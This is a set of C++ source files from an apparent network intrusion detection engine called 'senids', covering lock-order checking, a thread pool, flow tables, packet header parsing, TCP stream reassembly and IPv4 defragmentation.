    if (std::isspace(static_cast<unsigned char>(c))) continue;
    int d = hex_digit(c);
    if (d < 0) return std::nullopt;
    if (hi < 0) {
      hi = d;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | d));
      hi = -1;
    }
  }
  if (hi >= 0) return std::nullopt;  // odd number of digits
  return out;
}

}  // namespace senids::util
