#include "util/sync.hpp"

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <unordered_map>
#include <vector>

// Runtime lock-order checker ("lockdep light"). The data structures
// here are guarded by plain std::mutex on purpose: instrumenting the
// checker's own locks with the checker would recurse, and they are
// leaves by construction (no callback ever runs under them).
//
// Cost model: a thread's first-level acquisition (empty held stack — the
// overwhelmingly common case) touches only the thread-local stack. Only
// a *nested* acquisition takes the global graph mutex, and nested
// acquisitions are rare and cold (registration paths, collectors).

namespace senids::util::lockorder {

namespace {

/// Build-time default (SENIDS_LOCK_ORDER_DEFAULT_ON is defined for
/// debug and TSan builds), overridable by SENIDS_LOCK_ORDER=1|0.
bool initial_enabled() noexcept {
#if defined(SENIDS_LOCK_ORDER_DEFAULT_ON)
  bool on = true;
#else
  bool on = false;
#endif
  // Startup-only, read-only environment access.  NOLINTNEXTLINE(concurrency-mt-unsafe)
  if (const char* env = std::getenv("SENIDS_LOCK_ORDER")) {
    if (*env) on = !(std::strcmp(env, "0") == 0 || std::strcmp(env, "off") == 0);
  }
  return on;
}

struct Edge {
  ClassId to;
  std::string witness;  // held-stack rendering when first recorded
};

/// Global acquisition-order graph. Meyers singleton so pre-main Mutex
/// construction (static loggers, registries) finds it initialized.
struct Graph {
  std::mutex mu;
  std::vector<std::string> names;                    // ClassId -> name
  std::unordered_map<std::string, ClassId> by_name;  // name -> ClassId
  std::vector<std::vector<Edge>> edges;              // adjacency, from -> to
};

Graph& graph() {
  static Graph g;
  return g;
}

/// The calling thread's held lock classes, oldest first.
std::vector<ClassId>& held_stack() {
  thread_local std::vector<ClassId> stack;
  return stack;
}

/// Must hold graph().mu.
bool edge_exists(const Graph& g, ClassId from, ClassId to) {
  for (const Edge& e : g.edges[from]) {
    if (e.to == to) return true;
  }
  return false;
}

/// Must hold graph().mu. DFS for a path from -> to; fills `path` with
/// the class ids along it (inclusive) when found.
bool find_path(const Graph& g, ClassId from, ClassId to, std::vector<ClassId>& path) {
  path.push_back(from);
  if (from == to) return true;
  for (const Edge& e : g.edges[from]) {
    // The graph is tiny (one node per lock class); repeated visits are
    // bounded by its acyclicity — this search runs before any edge that
    // would close a cycle is inserted.
    if (find_path(g, e.to, to, path)) return true;
  }
  path.pop_back();
  return false;
}

/// Must hold graph().mu (names are read).
std::string render_stack(const Graph& g, const std::vector<ClassId>& stack,
                         ClassId acquiring) {
  std::string out = "[";
  for (ClassId id : stack) {
    out += g.names[id];
    out += " -> ";
  }
  out += g.names[acquiring];
  out += "]";
  return out;
}

[[noreturn]] void die(const std::string& message) {
  std::fprintf(stderr, "%s", message.c_str());
  std::fflush(stderr);
  std::abort();
}

}  // namespace

namespace detail {
std::atomic<bool> g_enabled{initial_enabled()};
}  // namespace detail

void set_enabled(bool enabled) noexcept {
  detail::g_enabled.store(enabled, std::memory_order_relaxed);
}

ClassId class_id(const char* name) {
  Graph& g = graph();
  std::lock_guard lock(g.mu);
  auto it = g.by_name.find(name);
  if (it != g.by_name.end()) return it->second;
  const ClassId id = g.names.size();
  g.names.emplace_back(name);
  g.by_name.emplace(name, id);
  g.edges.emplace_back();
  return id;
}

void on_acquire(ClassId id) {
  std::vector<ClassId>& stack = held_stack();
  if (!stack.empty()) {
    Graph& g = graph();
    std::lock_guard lock(g.mu);
    for (ClassId held : stack) {
      if (held == id) {
        die("senids: lock-order violation: acquiring lock class \"" + g.names[id] +
            "\" while an instance of the same class is already held " +
            render_stack(g, stack, id) +
            "\n  (same-class nesting deadlocks the moment two threads pick "
            "opposite instance orders)\n");
      }
    }
    // A path id -> ... -> held means "id before held" is established;
    // acquiring id *after* held would close a cycle. Report before the
    // underlying mutex can ever block on it.
    for (ClassId held : stack) {
      std::vector<ClassId> path;
      if (find_path(g, id, held, path)) {
        std::string msg = "senids: lock-order inversion detected\n  this thread: "
                          "acquiring \"" +
                          g.names[id] + "\" while holding " +
                          render_stack(g, stack, id) +
                          "\n  established order: ";
        for (std::size_t i = 0; i < path.size(); ++i) {
          if (i) msg += " -> ";
          msg += "\"" + g.names[path[i]] + "\"";
        }
        msg += "\n  first recorded by:\n";
        for (std::size_t i = 0; i + 1 < path.size(); ++i) {
          for (const Edge& e : g.edges[path[i]]) {
            if (e.to == path[i + 1]) {
              msg += "    \"" + g.names[path[i]] + "\" -> \"" + g.names[path[i + 1]] +
                     "\" with held stack " + e.witness + "\n";
              break;
            }
          }
        }
        die(msg);
      }
    }
    const ClassId top = stack.back();
    if (!edge_exists(g, top, id)) {
      g.edges[top].push_back(Edge{id, render_stack(g, stack, id)});
    }
  }
  stack.push_back(id);
}

void on_try_acquire(ClassId id) { held_stack().push_back(id); }

void on_release(ClassId id) noexcept {
  std::vector<ClassId>& stack = held_stack();
  for (std::size_t i = stack.size(); i-- > 0;) {
    if (stack[i] == id) {
      stack.erase(stack.begin() + static_cast<std::ptrdiff_t>(i));
      return;
    }
  }
  // Releasing a lock the checker never saw acquired: possible when the
  // checker was enabled mid-flight (tests). Ignore.
}

std::size_t edge_count() {
  Graph& g = graph();
  std::lock_guard lock(g.mu);
  std::size_t n = 0;
  for (const auto& adj : g.edges) n += adj.size();
  return n;
}

void reset_graph() {
  Graph& g = graph();
  std::lock_guard lock(g.mu);
  for (auto& adj : g.edges) adj.clear();
}

}  // namespace senids::util::lockorder
