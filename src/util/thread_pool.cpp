#include "util/thread_pool.hpp"

namespace senids::util {

ThreadPool::ThreadPool(std::size_t threads) {
  if (threads == 0) threads = 1;
  workers_.reserve(threads);
  for (std::size_t i = 0; i < threads; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    MutexLock lock(mu_);
    stop_ = true;
  }
  work_cv_.notify_all();
  for (auto& w : workers_) w.join();
}

void ThreadPool::submit(std::function<void()> task) {
  {
    MutexLock lock(mu_);
    queue_.push_back(std::move(task));
  }
  work_cv_.notify_one();
}

void ThreadPool::wait_idle() {
  MutexLock lock(mu_);
  while (!queue_.empty() || active_ != 0) idle_cv_.wait(mu_);
}

void ThreadPool::worker_loop() {
  for (;;) {
    std::function<void()> task;
    {
      MutexLock lock(mu_);
      while (!stop_ && queue_.empty()) work_cv_.wait(mu_);
      if (queue_.empty()) return;  // stop_ set and nothing left to drain
      task = std::move(queue_.front());
      queue_.pop_front();
      ++active_;
    }
    task();
    {
      MutexLock lock(mu_);
      --active_;
      if (queue_.empty() && active_ == 0) idle_cv_.notify_all();
    }
  }
}

}  // namespace senids::util
