// Flow bookkeeping: 5-tuple keys and a flow table that groups packets by
// connection so the analyzer can work on reassembled byte streams rather
// than individual segments (exploit payloads regularly span segments).
#pragma once

#include <cstdint>
#include <functional>
#include <unordered_map>
#include <vector>

#include "net/packet.hpp"

namespace senids::net {

/// Directional 5-tuple identifying one side of a conversation.
struct FlowKey {
  Ipv4Addr src_ip;
  Ipv4Addr dst_ip;
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint8_t protocol = 0;

  friend bool operator==(const FlowKey&, const FlowKey&) = default;

  [[nodiscard]] static FlowKey of(const ParsedPacket& pkt) noexcept {
    return FlowKey{pkt.ip.src, pkt.ip.dst, pkt.src_port(), pkt.dst_port(), pkt.ip.protocol};
  }
};

struct FlowKeyHash {
  std::size_t operator()(const FlowKey& k) const noexcept {
    // FNV-1a over the tuple fields; cheap and well distributed for the
    // table sizes we see (tens of thousands of flows per trace).
    std::uint64_t h = 1469598103934665603ULL;
    auto mix = [&h](std::uint64_t v) {
      h ^= v;
      h *= 1099511628211ULL;
    };
    mix(k.src_ip.value);
    mix(k.dst_ip.value);
    mix((std::uint64_t{k.src_port} << 16) | k.dst_port);
    mix(k.protocol);
    return static_cast<std::size_t>(h);
  }
};

template <typename V>
using FlowMap = std::unordered_map<FlowKey, V, FlowKeyHash>;

}  // namespace senids::net
