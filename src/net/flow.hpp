// Flow bookkeeping: 5-tuple keys and flow tables that group packets by
// connection so the analyzer can work on reassembled byte streams rather
// than individual segments (exploit payloads regularly span segments).
// BoundedFlowTable adds the resource management a deployable engine
// needs: LRU activity tracking, idle-timeout eviction, and a hard cap on
// live flows (oldest-first eviction) so hostile traffic cannot exhaust
// state.
#pragma once

#include <cstdint>
#include <functional>
#include <list>
#include <unordered_map>
#include <utility>
#include <vector>

#include "net/packet.hpp"
#include "obs/metrics.hpp"

namespace senids::net {

/// Optional observability hooks for a BoundedFlowTable. All pointers
/// must outlive the table; any may be null.
struct FlowTableMetrics {
  obs::Gauge* flows = nullptr;            // current occupancy
  obs::Counter* created = nullptr;        // flows admitted
  obs::Counter* evicted_idle = nullptr;   // flushed by the idle timeout
  obs::Counter* evicted_overflow = nullptr;  // flushed by the live-flow cap
};

/// Directional 5-tuple identifying one side of a conversation.
struct FlowKey {
  Ipv4Addr src_ip;
  Ipv4Addr dst_ip;
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint8_t protocol = 0;

  friend bool operator==(const FlowKey&, const FlowKey&) = default;

  [[nodiscard]] static FlowKey of(const ParsedPacket& pkt) noexcept {
    return FlowKey{pkt.ip.src, pkt.ip.dst, pkt.src_port(), pkt.dst_port(), pkt.ip.protocol};
  }
};

struct FlowKeyHash {
  std::size_t operator()(const FlowKey& k) const noexcept {
    // FNV-1a over the tuple fields; cheap and well distributed for the
    // table sizes we see (tens of thousands of flows per trace).
    std::uint64_t h = 1469598103934665603ULL;
    auto mix = [&h](std::uint64_t v) {
      h ^= v;
      h *= 1099511628211ULL;
    };
    mix(k.src_ip.value);
    mix(k.dst_ip.value);
    mix((std::uint64_t{k.src_port} << 16) | k.dst_port);
    mix(k.protocol);
    return static_cast<std::size_t>(h);
  }
};

template <typename V>
using FlowMap = std::unordered_map<FlowKey, V, FlowKeyHash>;

/// Flow table with bounded state: every touch() refreshes the flow's
/// position in an intrusive LRU list stamped with the packet's capture
/// time, and the owner drives eviction through evict_idle() (flows quiet
/// for longer than a timeout) and evict_oldest() (enforcing a cap on live
/// flows). Evicted values are handed to a sink callback so the engine can
/// flush the partially assembled stream as an analysis unit instead of
/// silently dropping it. All operations are O(1) amortized.
template <typename V>
class BoundedFlowTable {
 public:
  /// Attach observability hooks (`metrics` must outlive the table).
  void set_metrics(const FlowTableMetrics* metrics) noexcept { metrics_ = metrics; }

  /// Find-or-create the flow for `key`, constructing V from `args` on a
  /// miss. Stamps the flow with `ts_sec` and moves it to the
  /// most-recently-active end of the LRU list. Returns the value and
  /// whether it was newly created.
  template <typename... Args>
  std::pair<V*, bool> touch(const FlowKey& key, std::uint32_t ts_sec, Args&&... args) {
    auto it = map_.find(key);
    if (it != map_.end()) {
      it->second.last_ts = ts_sec;
      lru_.splice(lru_.end(), lru_, it->second.lru_pos);
      return {&it->second.value, false};
    }
    auto pos = lru_.insert(lru_.end(), key);
    auto [ins, _] =
        map_.try_emplace(key, Entry{V(std::forward<Args>(args)...), ts_sec, pos});
    if (metrics_ && metrics_->created) metrics_->created->add();
    publish_occupancy();
    return {&ins->second.value, true};
  }

  void erase(const FlowKey& key) {
    auto it = map_.find(key);
    if (it == map_.end()) return;
    lru_.erase(it->second.lru_pos);
    map_.erase(it);
    publish_occupancy();
  }

  /// Evict every flow idle since before `now - idle_timeout`, calling
  /// `sink(key, value)` for each. Capture timestamps can regress, so a
  /// flow stamped "in the future" is treated as fresh.
  template <typename Sink>
  std::size_t evict_idle(std::uint32_t now, std::uint32_t idle_timeout, Sink&& sink) {
    std::size_t evicted = 0;
    while (!lru_.empty()) {
      auto it = map_.find(lru_.front());
      const std::uint32_t last = it->second.last_ts;
      if (now <= last || now - last <= idle_timeout) break;
      sink(it->first, it->second.value);
      lru_.pop_front();
      map_.erase(it);
      ++evicted;
    }
    if (evicted && metrics_) {
      if (metrics_->evicted_idle) metrics_->evicted_idle->add(evicted);
      publish_occupancy();
    }
    return evicted;
  }

  /// Evict the least-recently-active flow (the victim when the live-flow
  /// cap is hit). Returns false on an empty table.
  template <typename Sink>
  bool evict_oldest(Sink&& sink) {
    if (lru_.empty()) return false;
    auto it = map_.find(lru_.front());
    sink(it->first, it->second.value);
    lru_.pop_front();
    map_.erase(it);
    if (metrics_ && metrics_->evicted_overflow) metrics_->evicted_overflow->add();
    publish_occupancy();
    return true;
  }

  /// Flush every live flow in oldest-first order (end of capture /
  /// shutdown) and clear the table. Deterministic, unlike hash order.
  template <typename Sink>
  void drain(Sink&& sink) {
    for (const FlowKey& key : lru_) {
      auto it = map_.find(key);
      sink(it->first, it->second.value);
    }
    map_.clear();
    lru_.clear();
    publish_occupancy();
  }

  [[nodiscard]] std::size_t size() const noexcept { return map_.size(); }
  [[nodiscard]] bool empty() const noexcept { return map_.empty(); }

 private:
  void publish_occupancy() const {
    if (metrics_ && metrics_->flows) {
      metrics_->flows->set(static_cast<std::int64_t>(map_.size()));
    }
  }

  struct Entry {
    V value;
    std::uint32_t last_ts = 0;
    std::list<FlowKey>::iterator lru_pos;
  };
  std::unordered_map<FlowKey, Entry, FlowKeyHash> map_;
  std::list<FlowKey> lru_;  // front = least recently active
  const FlowTableMetrics* metrics_ = nullptr;
};

}  // namespace senids::net
