#include "net/headers.hpp"

#include <cstdio>

namespace senids::net {

using util::Bytes;
using util::ByteView;
using util::Cursor;

MacAddr MacAddr::from_u64(std::uint64_t v) noexcept {
  MacAddr m;
  for (int i = 5; i >= 0; --i) {
    m.octets[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(v & 0xff);
    v >>= 8;
  }
  return m;
}

std::string MacAddr::str() const {
  char buf[18];
  std::snprintf(buf, sizeof buf, "%02x:%02x:%02x:%02x:%02x:%02x", octets[0], octets[1],
                octets[2], octets[3], octets[4], octets[5]);
  return buf;
}

std::optional<Ipv4Addr> Ipv4Addr::parse(std::string_view text) {
  std::uint32_t parts[4];
  std::size_t idx = 0;
  std::uint32_t cur = 0;
  bool have_digit = false;
  for (char c : text) {
    if (c >= '0' && c <= '9') {
      cur = cur * 10 + static_cast<std::uint32_t>(c - '0');
      if (cur > 255) return std::nullopt;
      have_digit = true;
    } else if (c == '.') {
      if (!have_digit || idx >= 3) return std::nullopt;
      parts[idx++] = cur;
      cur = 0;
      have_digit = false;
    } else {
      return std::nullopt;
    }
  }
  if (!have_digit || idx != 3) return std::nullopt;
  parts[3] = cur;
  return from_octets(static_cast<std::uint8_t>(parts[0]), static_cast<std::uint8_t>(parts[1]),
                     static_cast<std::uint8_t>(parts[2]), static_cast<std::uint8_t>(parts[3]));
}

std::string Ipv4Addr::str() const {
  char buf[16];
  std::snprintf(buf, sizeof buf, "%u.%u.%u.%u", (value >> 24) & 0xff, (value >> 16) & 0xff,
                (value >> 8) & 0xff, value & 0xff);
  return buf;
}

void EthernetHeader::encode(Bytes& out) const {
  out.insert(out.end(), dst.octets.begin(), dst.octets.end());
  out.insert(out.end(), src.octets.begin(), src.octets.end());
  util::put_u16be(out, ethertype);
}

std::optional<EthernetHeader> EthernetHeader::decode(Cursor& cur) {
  if (cur.remaining() < kSize) return std::nullopt;
  EthernetHeader h;
  ByteView d = cur.take(6);
  std::copy(d.begin(), d.end(), h.dst.octets.begin());
  ByteView s = cur.take(6);
  std::copy(s.begin(), s.end(), h.src.octets.begin());
  h.ethertype = cur.u16be();
  return h;
}

std::uint16_t internet_checksum(ByteView data, std::uint32_t initial) {
  std::uint32_t sum = initial;
  std::size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += static_cast<std::uint32_t>((data[i] << 8) | data[i + 1]);
  }
  if (i < data.size()) sum += static_cast<std::uint32_t>(data[i] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum & 0xffff);
}

void Ipv4Header::encode(Bytes& out, std::size_t payload_len) const {
  const std::size_t start = out.size();
  const std::uint16_t len =
      total_length != 0 ? total_length : static_cast<std::uint16_t>(kSize + payload_len);
  util::put_u8(out, 0x45);  // version 4, IHL 5
  util::put_u8(out, tos);
  util::put_u16be(out, len);
  util::put_u16be(out, identification);
  if (is_fragment()) {
    util::put_u16be(out, static_cast<std::uint16_t>((more_fragments ? 0x2000 : 0) |
                                                    (fragment_offset & 0x1fff)));
  } else {
    util::put_u16be(out, 0x4000);  // flags: don't-fragment, offset 0
  }
  util::put_u8(out, ttl);
  util::put_u8(out, protocol);
  util::put_u16be(out, 0);  // checksum placeholder
  util::put_u32be(out, src.value);
  util::put_u32be(out, dst.value);
  const std::uint16_t ck =
      internet_checksum(ByteView(out).subspan(start, kSize));
  out[start + 10] = static_cast<std::uint8_t>(ck >> 8);
  out[start + 11] = static_cast<std::uint8_t>(ck & 0xff);
}

std::optional<Ipv4Header> Ipv4Header::decode(Cursor& cur) {
  if (cur.remaining() < kSize) return std::nullopt;
  const std::uint8_t vihl = cur.u8();
  if ((vihl >> 4) != 4) return std::nullopt;
  const std::size_t header_len = static_cast<std::size_t>(vihl & 0xf) * 4;
  if (header_len < kSize) return std::nullopt;
  Ipv4Header h;
  h.tos = cur.u8();
  h.total_length = cur.u16be();
  h.identification = cur.u16be();
  const std::uint16_t frag = cur.u16be();
  h.more_fragments = (frag & 0x2000) != 0;
  h.fragment_offset = frag & 0x1fff;
  h.ttl = cur.u8();
  h.protocol = cur.u8();
  cur.skip(2);  // checksum (validated separately if desired)
  h.src.value = cur.u32be();
  h.dst.value = cur.u32be();
  if (header_len > kSize) {
    if (cur.remaining() < header_len - kSize) return std::nullopt;
    cur.skip(header_len - kSize);  // options: skipped, not interpreted
  }
  return h;
}

namespace {
/// Pseudo-header sum shared by TCP and UDP checksums.
std::uint32_t pseudo_sum(const Ipv4Addr& src, const Ipv4Addr& dst, std::uint8_t proto,
                         std::size_t l4_len) {
  std::uint32_t sum = 0;
  sum += (src.value >> 16) & 0xffff;
  sum += src.value & 0xffff;
  sum += (dst.value >> 16) & 0xffff;
  sum += dst.value & 0xffff;
  sum += proto;
  sum += static_cast<std::uint32_t>(l4_len);
  return sum;
}
}  // namespace

void TcpHeader::encode(Bytes& out, const Ipv4Addr& src_ip, const Ipv4Addr& dst_ip,
                       ByteView payload) const {
  const std::size_t start = out.size();
  util::put_u16be(out, src_port);
  util::put_u16be(out, dst_port);
  util::put_u32be(out, seq);
  util::put_u32be(out, ack);
  util::put_u8(out, 0x50);  // data offset 5 words
  util::put_u8(out, flags);
  util::put_u16be(out, window);
  util::put_u16be(out, 0);  // checksum placeholder
  util::put_u16be(out, 0);  // urgent pointer
  out.insert(out.end(), payload.begin(), payload.end());
  Bytes segment(out.begin() + static_cast<std::ptrdiff_t>(start), out.end());
  const std::uint16_t ck = internet_checksum(
      segment, pseudo_sum(src_ip, dst_ip, kIpProtoTcp, segment.size()));
  out[start + 16] = static_cast<std::uint8_t>(ck >> 8);
  out[start + 17] = static_cast<std::uint8_t>(ck & 0xff);
}

std::optional<TcpHeader> TcpHeader::decode(Cursor& cur) {
  if (cur.remaining() < kSize) return std::nullopt;
  TcpHeader h;
  h.src_port = cur.u16be();
  h.dst_port = cur.u16be();
  h.seq = cur.u32be();
  h.ack = cur.u32be();
  const std::uint8_t offset_words = cur.u8() >> 4;
  h.flags = cur.u8();
  h.window = cur.u16be();
  cur.skip(4);  // checksum + urgent pointer
  const std::size_t header_len = static_cast<std::size_t>(offset_words) * 4;
  if (header_len < kSize) return std::nullopt;
  if (header_len > kSize) {
    if (cur.remaining() < header_len - kSize) return std::nullopt;
    cur.skip(header_len - kSize);  // TCP options
  }
  return h;
}

void UdpHeader::encode(Bytes& out, const Ipv4Addr& src_ip, const Ipv4Addr& dst_ip,
                       ByteView payload) const {
  const std::size_t start = out.size();
  const std::uint16_t len = static_cast<std::uint16_t>(kSize + payload.size());
  util::put_u16be(out, src_port);
  util::put_u16be(out, dst_port);
  util::put_u16be(out, len);
  util::put_u16be(out, 0);  // checksum placeholder
  out.insert(out.end(), payload.begin(), payload.end());
  Bytes datagram(out.begin() + static_cast<std::ptrdiff_t>(start), out.end());
  std::uint16_t ck =
      internet_checksum(datagram, pseudo_sum(src_ip, dst_ip, kIpProtoUdp, datagram.size()));
  if (ck == 0) ck = 0xffff;  // RFC 768: transmitted zero means "no checksum"
  out[start + 6] = static_cast<std::uint8_t>(ck >> 8);
  out[start + 7] = static_cast<std::uint8_t>(ck & 0xff);
}

std::optional<UdpHeader> UdpHeader::decode(Cursor& cur) {
  if (cur.remaining() < kSize) return std::nullopt;
  UdpHeader h;
  h.src_port = cur.u16be();
  h.dst_port = cur.u16be();
  cur.skip(4);  // length + checksum
  return h;
}

}  // namespace senids::net
