#include "net/packet.hpp"

namespace senids::net {

namespace {
/// Decode the transport layer into `pkt` from the (full) IP payload.
bool parse_l4(ParsedPacket& pkt, util::ByteView ip_payload);
}  // namespace

std::optional<ParsedPacket> parse_frame(util::ByteView frame, std::uint32_t ts_sec,
                                        std::uint32_t ts_usec) {
  util::Cursor cur(frame);
  auto eth = EthernetHeader::decode(cur);
  if (!eth || eth->ethertype != kEtherTypeIpv4) return std::nullopt;
  auto ip = Ipv4Header::decode(cur);
  if (!ip) return std::nullopt;

  ParsedPacket pkt;
  pkt.ts_sec = ts_sec;
  pkt.ts_usec = ts_usec;
  pkt.eth = *eth;
  pkt.ip = *ip;

  // Trust total_length to bound the L4 view; guard against it claiming
  // more bytes than were captured.
  std::size_t ip_payload_len = 0;
  if (ip->total_length >= Ipv4Header::kSize) {
    ip_payload_len = std::min<std::size_t>(ip->total_length - Ipv4Header::kSize,
                                           cur.remaining());
  } else {
    ip_payload_len = cur.remaining();
  }
  util::ByteView ip_payload = cur.rest().first(ip_payload_len);

  if (ip->is_fragment()) {
    // Transport headers only exist in the first fragment; surface the raw
    // bytes so the defragmenter can reassemble.
    pkt.transport = Transport::kFragment;
    pkt.payload.assign(ip_payload.begin(), ip_payload.end());
    return pkt;
  }

  if (!parse_l4(pkt, ip_payload)) return std::nullopt;
  return pkt;
}

std::optional<Ipv4Addr> peek_src(util::ByteView frame) {
  util::Cursor cur(frame);
  auto eth = EthernetHeader::decode(cur);
  if (!eth || eth->ethertype != kEtherTypeIpv4) return std::nullopt;
  auto ip = Ipv4Header::decode(cur);
  if (!ip) return std::nullopt;
  return ip->src;
}

std::optional<ParsedPacket> parse_reassembled(const Ipv4Header& header,
                                              util::ByteView ip_payload,
                                              std::uint32_t ts_sec,
                                              std::uint32_t ts_usec) {
  ParsedPacket pkt;
  pkt.ts_sec = ts_sec;
  pkt.ts_usec = ts_usec;
  pkt.ip = header;
  if (!parse_l4(pkt, ip_payload)) return std::nullopt;
  return pkt;
}

namespace {
bool parse_l4(ParsedPacket& pkt, util::ByteView ip_payload) {
  util::Cursor l4(ip_payload);
  switch (pkt.ip.protocol) {
    case kIpProtoTcp: {
      auto tcp = TcpHeader::decode(l4);
      if (!tcp) return false;
      pkt.transport = Transport::kTcp;
      pkt.tcp = *tcp;
      break;
    }
    case kIpProtoUdp: {
      auto udp = UdpHeader::decode(l4);
      if (!udp) return false;
      pkt.transport = Transport::kUdp;
      pkt.udp = *udp;
      break;
    }
    default:
      pkt.transport = Transport::kOtherIp;
      break;
  }
  util::ByteView payload = l4.rest();
  pkt.payload.assign(payload.begin(), payload.end());
  return true;
}
}  // namespace

}  // namespace senids::net
