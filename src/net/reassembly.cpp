#include "net/reassembly.hpp"

#include <limits>

#include "net/headers.hpp"

namespace senids::net {

namespace {
/// Signed distance a - b on the 32-bit sequence circle.
std::int32_t seq_diff(std::uint32_t a, std::uint32_t b) noexcept {
  return static_cast<std::int32_t>(a - b);
}
}  // namespace

void TcpReassembler::feed(std::uint32_t seq, std::uint8_t flags, util::ByteView payload) {
  if (closed_) return;
  if (!next_seq_) {
    if (flags & kTcpSyn) {
      next_seq_ = seq + 1;  // SYN occupies one sequence number
      return;
    }
    next_seq_ = seq;  // mid-stream anchor (capture started after handshake)
  }

  if (!payload.empty()) {
    std::int32_t d = seq_diff(seq, *next_seq_);
    util::Bytes data(payload.begin(), payload.end());
    if (d < 0) {
      // Retransmission overlapping already-delivered bytes: trim the stale
      // prefix, keep any new suffix.
      const std::size_t stale = static_cast<std::size_t>(-d);
      if (stale >= data.size()) {
        data.clear();
      } else {
        data.erase(data.begin(), data.begin() + static_cast<std::ptrdiff_t>(stale));
        seq = *next_seq_;
        d = 0;
      }
    }
    if (!data.empty()) {
      if (d == 0) {
        append_stream(data, 0);
        drain();
      } else {
        auto [it, inserted] = pending_.try_emplace(seq, std::move(data));
        if (inserted) {
          buffered_ += it->second.size();
          if (buffered_ > max_buffered_) {
            // Force the earliest gap closed: jump to the pending segment
            // nearest ahead of next_seq_ and resume from there.
            std::uint32_t best = 0;
            std::int32_t best_d = std::numeric_limits<std::int32_t>::max();
            for (const auto& [s, _] : pending_) {
              std::int32_t dd = seq_diff(s, *next_seq_);
              if (dd >= 0 && dd < best_d) {
                best_d = dd;
                best = s;
              }
            }
            if (best_d != std::numeric_limits<std::int32_t>::max()) {
              *next_seq_ = best;
              drain();
            }
          }
        }
      }
    }
  }

  if (flags & (kTcpFin | kTcpRst)) {
    // Remember where the stream ends; close fires as soon as delivery
    // reaches that point — immediately if the flag is at/behind the
    // delivery point, or after a later drain() fills the gap in front of
    // an out-of-order FIN/RST.
    const std::uint32_t end = seq + static_cast<std::uint32_t>(payload.size());
    if (!close_seq_ || seq_diff(end, *close_seq_) < 0) close_seq_ = end;
    maybe_close();
  }
}

void TcpReassembler::append_stream(const util::Bytes& data, std::size_t skip) {
  // Sequence tracking always advances over the full segment; the stored
  // stream is clamped at max_stream_ so a long-lived flow cannot hold an
  // unbounded assembled stream.
  *next_seq_ += static_cast<std::uint32_t>(data.size() - skip);
  if (stream_.size() < max_stream_) {
    const std::size_t room = max_stream_ - stream_.size();
    const std::size_t take = std::min(room, data.size() - skip);
    stream_.insert(stream_.end(), data.begin() + static_cast<std::ptrdiff_t>(skip),
                   data.begin() + static_cast<std::ptrdiff_t>(skip + take));
    if (take < data.size() - skip) truncated_ = true;
  } else {
    truncated_ = true;
  }
  maybe_close();
}

void TcpReassembler::maybe_close() {
  if (close_seq_ && seq_diff(*close_seq_, *next_seq_) <= 0) closed_ = true;
}

void TcpReassembler::drain() {
  bool progressed = true;
  while (progressed && !pending_.empty()) {
    progressed = false;
    for (auto it = pending_.begin(); it != pending_.end();) {
      std::int32_t d = seq_diff(it->first, *next_seq_);
      if (d > 0) {
        ++it;
        continue;
      }
      util::Bytes data = std::move(it->second);
      buffered_ -= data.size();
      it = pending_.erase(it);
      const std::size_t stale = static_cast<std::size_t>(-d);
      if (stale < data.size()) {
        append_stream(data, stale);
        progressed = true;
        break;  // restart scan: delivery point moved
      }
    }
  }
  maybe_close();
}

}  // namespace senids::net
