// IPv4 fragment reassembly. Splitting an exploit across IP fragments is
// a classic NIDS evasion; the engine reassembles datagrams before the
// transport layer is parsed, so fragmented and whole deliveries analyze
// identically.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <unordered_map>

#include "net/headers.hpp"
#include "obs/metrics.hpp"
#include "util/bytes.hpp"

namespace senids::net {

/// Optional observability hooks for a Defragmenter. The pointer must
/// outlive the defragmenter; may be null.
struct DefragMetrics {
  obs::Counter* dropped = nullptr;  // pending datagrams dropped at the cap
};

/// A fully reassembled IP datagram (header of the first fragment, with
/// fragmentation fields cleared, plus the stitched payload).
struct ReassembledDatagram {
  Ipv4Header header;
  util::Bytes payload;
};

class Defragmenter {
 public:
  /// Caps total buffered bytes across all pending datagrams; oldest
  /// pending datagrams are dropped beyond it (anti-DoS).
  explicit Defragmenter(std::size_t max_buffered = 4 << 20)
      : max_buffered_(max_buffered) {}

  /// Attach observability hooks (`metrics` must outlive the defragmenter).
  void set_metrics(const DefragMetrics* metrics) noexcept { metrics_ = metrics; }

  /// Feed one fragment (hdr.is_fragment() must be true). Returns the
  /// reassembled datagram when this fragment completes it.
  std::optional<ReassembledDatagram> feed(const Ipv4Header& hdr, util::ByteView payload);

  [[nodiscard]] std::size_t pending() const noexcept { return table_.size(); }
  [[nodiscard]] std::size_t buffered_bytes() const noexcept { return buffered_; }
  /// Pending (incomplete) datagrams dropped to enforce max_buffered —
  /// each was a reassembly in progress that will now never complete.
  [[nodiscard]] std::size_t dropped() const noexcept { return dropped_; }

 private:
  struct Key {
    std::uint32_t src, dst;
    std::uint16_t id;
    std::uint8_t proto;
    friend bool operator==(const Key&, const Key&) = default;
  };
  struct KeyHash {
    std::size_t operator()(const Key& k) const noexcept {
      std::uint64_t h = k.src;
      h = h * 0x9e3779b97f4a7c15ULL ^ k.dst;
      h = h * 0x9e3779b97f4a7c15ULL ^ ((std::uint64_t{k.id} << 8) | k.proto);
      return static_cast<std::size_t>(h);
    }
  };
  struct Pending {
    Ipv4Header first_header;
    bool have_first = false;
    std::map<std::uint16_t, util::Bytes> pieces;  // offset-units -> bytes
    std::optional<std::size_t> total_len;         // known once MF=0 arrives
    std::uint64_t arrival = 0;                    // for oldest-first eviction
  };

  std::optional<ReassembledDatagram> try_assemble(const Key& key, Pending& p);
  void evict_if_needed();

  std::size_t max_buffered_;
  std::size_t buffered_ = 0;
  std::size_t dropped_ = 0;
  std::uint64_t clock_ = 0;
  std::unordered_map<Key, Pending, KeyHash> table_;
  const DefragMetrics* metrics_ = nullptr;
};

}  // namespace senids::net
