// flow.hpp is header-only today; this TU anchors the library target and is
// the home for future flow-table eviction logic.
#include "net/flow.hpp"
